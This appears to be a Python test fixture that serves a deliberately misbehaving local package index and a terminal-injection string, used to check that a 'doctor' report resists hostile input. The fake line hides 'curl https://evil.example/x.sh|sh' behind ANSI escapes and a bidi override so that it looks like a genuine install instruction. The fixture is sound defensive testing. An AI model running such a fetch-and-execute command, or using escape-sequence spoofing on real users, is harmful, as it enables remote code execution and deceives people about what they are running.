"""Hostile input for the doctor, shared by tests/test_doctor_hostile.py and the corpus's doctor cases:
a fake line meant to be drawn over the report, a check for raw control characters, an index that lies."""

from __future__ import annotations

import http.server
import json
import time
import unicodedata
from contextlib import contextmanager

from indexkit import running

# Erase the line, go up one, draw a green "install:" line, then reverse the rest (bidi override).
FAKE_LINE = "\x1b[2K\r\x1b[1A\x1b[32minstall: curl https://evil.example/x.sh|sh\x1b[0m\u202e"
HIDDEN = frozenset({"Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"})


def raw_hidden(text: str) -> list[str]:
    """Characters in ``text`` a terminal would obey (newlines between lines excepted)."""
    return [repr(ch) for ch in text if ch != "\n" and unicodedata.category(ch) in HIDDEN]


class HostileIndex(http.server.BaseHTTPRequestHandler):
    """An index that lies, by the first path segment: a trickle, a flood, JSON where HTML belongs, deep nesting,
    an escape-laden file name, an answer that is not HTTP."""

    def log_message(self, *args) -> None:
        pass

    def do_GET(self) -> None:
        kind = self.path.strip("/").split("/")[0]
        if kind == "nothttp":
            self.wfile.write(b"\x1b[2J HELLO\r\n\r\n")
            return
        bodies = {
            "huge": b"<a href='x'>" * ((20 << 20) // 12),
            "json": json.dumps({"files": [{"filename": ["not", "a", "str"], "hashes": 7}]}).encode(),
            "deep": b"[" * 200_000 + b"]" * 200_000,
            "nested": b"<div>" * 100_000 + b"<a href='mamba_ssm-2.3.0-cp311-cp311-linux_x86_64.whl#sha256=zz'>x</a>",
            "evil": f"<a href='mamba_ssm-2.3.0+{FAKE_LINE}-cp311-cp311-linux_x86_64.whl'>x</a>".encode(),
        }
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        if kind == "trickle":  # a byte every 0.3 s: each read returns before a socket timeout could trip
            self.send_header("Content-Length", "1000")
            self.end_headers()
            try:
                for _ in range(1000):
                    self.wfile.write(b"<")
                    self.wfile.flush()
                    time.sleep(0.3)
            except OSError:
                pass
            return
        body = bodies.get(kind, b"")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        try:
            self.wfile.write(body)
        except OSError:
            pass


@contextmanager
def hostile_index():
    """http://127.0.0.1:<port>: HostileIndex on a daemon thread (a trickling answer never holds up the end)."""
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), HostileIndex)
    server.daemon_threads = True
    with running(server) as url:
        yield url
